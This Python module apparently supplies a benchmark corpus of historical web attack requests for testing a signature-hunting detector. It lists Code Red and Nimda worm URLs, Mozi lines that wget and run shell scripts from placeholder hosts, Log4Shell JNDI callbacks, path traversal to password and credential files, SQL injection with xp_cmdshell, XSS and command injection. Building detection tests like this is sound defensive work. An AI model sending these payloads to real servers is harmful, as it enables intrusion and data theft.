"""Attacks as they came over the wire, written from public advisories and without a look at any rule.

Each has a name of its own; ``hunt_names`` says which signatures may be named for it. Addresses and hosts in
them are those that are kept for documentation.
"""
# ruff: noqa: E501 - a URL is as long as it is, and is looked for in one piece

from typing import Literal

from msgspec import Struct

Where = Literal["worm", "path", "query"]

PAYLOAD = (
    "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
    "%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
)
"""The public part of the Code Red URL."""


class Attack(Struct, frozen=True, kw_only=True):
    """One kind of attack."""

    name: str
    where: Where
    """What of the URL shows it: its path alone, or its query. Worms never vary what they send."""
    method: str
    target: str
    """Path and query as the server is to understand them; a space is sent as such clients send it."""


WORMS = f"""
code-red                 worm  GET  /default.ida?{"N" * 224}{PAYLOAD}
code-red-ii              worm  GET  /default.ida?{"X" * 224}{PAYLOAD}
nimda-root-scripts       worm  GET  /scripts/root.exe?/c+dir
nimda-root-msadc         worm  GET  /MSADC/root.exe?/c+dir
nimda-drive-c            worm  GET  /c/winnt/system32/cmd.exe?/c+dir
nimda-drive-d            worm  GET  /d/winnt/system32/cmd.exe?/c+dir
nimda-5c                 worm  GET  /scripts/..%255c../winnt/system32/cmd.exe?/c+dir
nimda-vti-bin            worm  GET  /_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir
nimda-mem-bin            worm  GET  /_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir
nimda-msadc              worm  GET  /msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir
nimda-c11c               worm  GET  /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir
nimda-c02f               worm  GET  /scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir
nimda-c0af               worm  GET  /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir
nimda-c19c               worm  GET  /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir
nimda-35c                worm  GET  /scripts/..%%35c../winnt/system32/cmd.exe?/c+dir
nimda-3563               worm  GET  /scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir
nimda-252f               worm  GET  /scripts/..%252f../winnt/system32/cmd.exe?/c+dir
mozi-jaws                worm  GET  /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.80/jaws;sh+/tmp/jaws
mozi-netgear             worm  GET  /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.81/m+-O+/tmp/n;sh+n&curpath=/&currentsetting.htm=1
"""

PATHS = """
ida-null                 path  GET  /null.ida
idq-null                 path  GET  /null.idq
printer-null             path  GET  /null.printer
unicode-cmd              path  GET  /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\
showcode                 path  GET  /msadc/Samples/SELECTOR/showcode.asp?source=/msadc/Samples/../../../../../boot.ini
apache-2449              path  GET  /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
apache-2450              path  POST /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh
traversal-passwd         path  GET  /static/../../../../../../etc/passwd
traversal-shadow         path  GET  /theme/../../../../../../../etc/shadow
traversal-hosts          path  GET  /assets/../../../../../windows/system32/drivers/etc/hosts
traversal-win-ini        path  GET  /..\\..\\..\\..\\windows\\win.ini
grafana-plugins          path  GET  /public/plugins/alertlist/../../../../../../../../etc/passwd
phpunit                  path  POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
gpon                     path  POST /GponForm/diag_Form?images/
hnap1                    path  POST /HNAP1/
citrix-vpns              path  POST /vpn/../vpns/portal/scripts/newbm.pl
pulse-secure             path  GET  /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
fortios-fgt-lang         path  GET  /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
f5-tmui                  path  GET  /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
f5-icontrol              path  POST /mgmt/tm/util/bash
asa-3452                 path  GET  /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
asa-0296                 path  GET  /+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions
ios-level                path  GET  /level/16/exec/-/show/running-config
ios-level-99             path  GET  /level/99/exec/show/config/cr
proxyshell               path  GET  /autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example
jboss-console            path  GET  /jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo
jboss-invoker            path  POST /invoker/JMXInvokerServlet
weblogic-wsat            path  POST /wls-wsat/CoordinatorPortType
weblogic-console         path  GET  /console/css/%252e%252e%252fconsole.portal
actuator-env             path  GET  /actuator/env
actuator-heapdump        path  GET  /actuator/heapdump
dot-env                  path  GET  /.env
git-config               path  GET  /.git/config
svn-entries              path  GET  /.svn/entries
aws-credentials          path  GET  /.aws/credentials
ssh-key                  path  GET  /.ssh/id_rsa
phpmyadmin-setup         path  GET  /phpmyadmin/scripts/setup.php
confluence-ognl          path  GET  /${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/
laravel-ignition         path  POST /_ignition/execute-solution
hadoop-yarn              path  POST /ws/v1/cluster/apps/new-application
web-shell-c99            path  GET  /uploads/c99.php
web-shell-r57            path  GET  /images/r57.php
boaform                  path  POST /boaform/admin/formLogin
moveit-human2            path  GET  /human2.aspx
sharepoint-toolpane      path  POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
"""

QUERIES = """
lfi-passwd               query GET  /index.php?page=../../../../../../etc/passwd
lfi-null-byte            query GET  /index.php?page=../../../../../../etc/passwd%00.html
lfi-proc                 query GET  /view.php?file=../../../../../proc/self/environ
lfi-boot-ini             query GET  /show.asp?doc=..\\..\\..\\..\\boot.ini
php-filter               query GET  /index.php?page=php://filter/convert.base64-encode/resource=config
php-input                query POST /index.php?page=php://input
php-data                 query GET  /index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==
php-expect               query GET  /index.php?page=expect://id
php-cgi-1823             query POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
log4shell                query GET  /login?user=${jndi:ldap://192.0.2.9:1389/a}
log4shell-lower          query GET  /search?q=${${lower:j}ndi:${lower:l}dap://192.0.2.9/a}
struts-ognl              query GET  /index.action?redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]=false}
struts-member            query GET  /show.action?id=%{(#_memberAccess["allowStaticMethodAccess"]=true).(#a=1)}
spring4shell             query GET  /hello?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
thinkphp                 query GET  /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1
drupalgeddon2            query POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
joomla-com-fields        query GET  /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)
sqli-union               query GET  /item.asp?id=1 union select 1,name,password from users
sqli-union-all           query GET  /news.php?id=-1 UNION ALL SELECT NULL,NULL,version()--
sqli-tautology           query GET  /login.asp?user=admin' or '1'='1
sqli-sleep               query GET  /item.php?id=1 and sleep(5)
sqli-waitfor             query GET  /item.aspx?id=1; waitfor delay '0:0:5'--
sqli-xp-cmdshell         query GET  /list.asp?id=1; exec master..xp_cmdshell 'ping 192.0.2.7'--
sqli-schema              query GET  /cat.php?id=1 and (select count(*) from information_schema.tables)>0
sqli-extractvalue        query GET  /cat.php?id=1 and extractvalue(1,concat(0x7e,version()))
sqli-benchmark           query GET  /cat.php?id=1 or benchmark(5000000,md5(1))
sqli-outfile             query GET  /cat.php?id=1 union select 1 into outfile '/var/www/x.php'
xss-script               query GET  /search?q=<script>alert(document.cookie)</script>
xss-onerror              query GET  /search?q=<img src=x onerror=alert(1)>
xss-svg                  query GET  /search?q=<svg/onload=alert(1)>
xss-iframe               query GET  /search?q="><iframe src=javascript:alert(1)>
xss-javascript           query GET  /go?url=javascript:alert(document.domain)
command-wget             query GET  /ping.php?host=127.0.0.1;wget http://192.0.2.66/x.sh
command-curl             query GET  /diag.cgi?addr=127.0.0.1|curl http://192.0.2.66/x.sh
command-passwd           query GET  /cgi-bin/status?name=x;cat /etc/passwd
luci-locale              query GET  /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)
awstats-configdir        query GET  /cgi-bin/awstats.pl?configdir=|echo;id;echo|
revslider                query GET  /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php
phpbb-santy              query GET  /viewtopic.php?t=1&highlight=%2527.system(chr(105)).%2527
"""


def _read(table: str) -> tuple[Attack, ...]:
    """A table in text: name, where, method, and the target to the end of the line."""
    rows = (line.split(maxsplit=3) for line in table.strip().splitlines())
    return tuple(
        Attack(name=name, where=_where(where), method=method, target=target)
        for name, where, method, target in rows
    )


def _where(word: str) -> Where:
    """The word as the type of its kind."""
    match word:
        case "worm" | "path" | "query":
            return word
        case _:
            raise ValueError(f"bench/hunt_attacks.py: {word!r} is none of worm, path, query")


ATTACKS = (*_read(WORMS), *_read(PATHS), *_read(QUERIES))
